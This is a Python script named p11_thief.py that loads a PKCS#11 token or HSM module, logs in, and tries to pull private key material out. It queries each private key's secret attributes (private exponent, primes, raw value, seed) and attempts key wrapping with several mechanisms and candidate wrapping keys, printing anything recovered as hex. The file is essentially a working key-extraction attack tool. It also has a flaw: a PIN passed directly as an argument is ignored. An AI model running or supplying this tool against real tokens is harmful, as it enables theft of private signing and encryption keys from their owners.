# SPDX-License-Identifier: MIT
"""A program that loads a PKCS#11 module and asks each private key for its secret parts, one at a
time and all at once, and for a wrapped copy of it. It prints what came out, a line for each: bytes
as hex. Nothing printed is nothing got; "keys N" at the end is how many it asked, of which each
gave its type by the very same call.

    p11_thief.py MODULE [PIN]       the PIN comes from standard input where it is "-"
"""

import ctypes
import sys

ULONG = ctypes.c_ulong
CKA_KEY_TYPE = 0x100
CKA_CLASS, CKO_PRIVATE_KEY, CKO_SECRET_KEY = 0, 3, 4
# CKA_VALUE, CKA_PRIVATE_EXPONENT, the primes, exponents and coefficient, and CKA_SEED
SECRETS = (0x11, 0x123, 0x124, 0x125, 0x126, 0x127, 0x128, 0x637)
WRAPPING = (0x2109, 0x210A, 0x2108, 0x1, 0x9, 0x1085, 0x1087)  # AES key wraps, RSA, AES modes
CKF_SERIAL, CKF_RW, CKU_USER = 4, 2, 1
ROOM = 8192
# Places in CK_FUNCTION_LIST, which begins with a version that is padded to a pointer.
PLACE = {"C_Initialize": 0, "C_GetSlotList": 4, "C_OpenSession": 12, "C_Login": 18,
         "C_GetAttributeValue": 24, "C_FindObjectsInit": 26, "C_FindObjects": 27,
         "C_FindObjectsFinal": 28, "C_WrapKey": 60}


class Attribute(ctypes.Structure):
    _fields_ = [("type", ULONG), ("value", ctypes.c_void_p), ("length", ULONG)]


class Mechanism(ctypes.Structure):
    _fields_ = [("type", ULONG), ("parameter", ctypes.c_void_p), ("length", ULONG)]


class Module:
    def __init__(self, path):
        library = ctypes.CDLL(path)
        functions = ctypes.POINTER(ctypes.c_void_p)()
        assert library.C_GetFunctionList(ctypes.byref(functions)) == 0
        self.functions = functions
        self.library = library

    def call(self, name, *arguments):
        at = self.functions[1 + PLACE[name]]
        types = [type(argument) if isinstance(argument, ULONG) else ctypes.c_void_p
                 for argument in arguments]
        return ctypes.CFUNCTYPE(ULONG, *types)(at)(*arguments)

    def open(self, pin):
        assert self.call("C_Initialize", None) == 0
        slots, count, session = (ULONG * 16)(), ULONG(16), ULONG()
        assert self.call("C_GetSlotList", ULONG(1), ctypes.addressof(slots),
                         ctypes.addressof(count)) == 0
        assert self.call("C_OpenSession", ULONG(slots[0]), ULONG(CKF_SERIAL | CKF_RW), None, None,
                         ctypes.addressof(session)) == 0
        if pin:
            assert self.call("C_Login", session, ULONG(CKU_USER), pin, ULONG(len(pin))) == 0
        return session


def find(module, session, kind):
    wanted = ULONG(kind)
    template = Attribute(CKA_CLASS, ctypes.addressof(wanted), ctypes.sizeof(wanted))
    found, count = (ULONG * 1000)(), ULONG()
    assert module.call("C_FindObjectsInit", session, ctypes.addressof(template), ULONG(1)) == 0
    assert module.call("C_FindObjects", session, ctypes.addressof(found), ULONG(1000),
                       ctypes.addressof(count)) == 0
    assert module.call("C_FindObjectsFinal", session) == 0
    return [ULONG(found[at]) for at in range(count.value)]


def ask(module, session, key, types):
    """Whatever one call wrote, said to be an answer or not."""
    rooms = [ctypes.create_string_buffer(ROOM) for _ in types]
    template = (Attribute * len(types))(
        *[Attribute(kind, ctypes.addressof(room), ROOM) for kind, room in zip(types, rooms)])
    module.call("C_GetAttributeValue", session, key, ctypes.addressof(template),
                ULONG(len(types)))
    return [(kind, room.raw.rstrip(b"\0")) for kind, room in zip(types, rooms)
            if room.raw.strip(b"\0")]


def key_type():
    number = ULONG()
    template = Attribute(CKA_KEY_TYPE, ctypes.addressof(number), ctypes.sizeof(number))
    key_type.keep = (number, template)  # as long as the call
    return ctypes.addressof(template), ULONG(1)


def wrap(module, session, key, with_key):
    for kind in WRAPPING:
        mechanism = Mechanism(kind, None, 0)
        room, length = ctypes.create_string_buffer(ROOM), ULONG(ROOM)
        module.call("C_WrapKey", session, ctypes.addressof(mechanism), with_key, key,
                    ctypes.addressof(room), ctypes.addressof(length))
        if room.raw.strip(b"\0"):
            print("wrapped", room.raw.rstrip(b"\0").hex())


def main():
    pin = sys.stdin.buffer.readline().strip() if sys.argv[2:] == ["-"] else b""
    module = Module(sys.argv[1])
    session = module.open(pin)
    keys = find(module, session, CKO_PRIVATE_KEY)
    wrapping = find(module, session, CKO_SECRET_KEY)
    for key in keys:
        assert module.call("C_GetAttributeValue", session, key, *key_type()) == 0
        for types in (SECRETS, *((kind,) for kind in SECRETS)):
            for kind, content in ask(module, session, key, types):
                print(f"{kind:#x}", content.hex())
        for other in [*wrapping, key, ULONG(1)]:
            wrap(module, session, key, other)
    print("keys", len(keys))


if __name__ == "__main__":
    main()
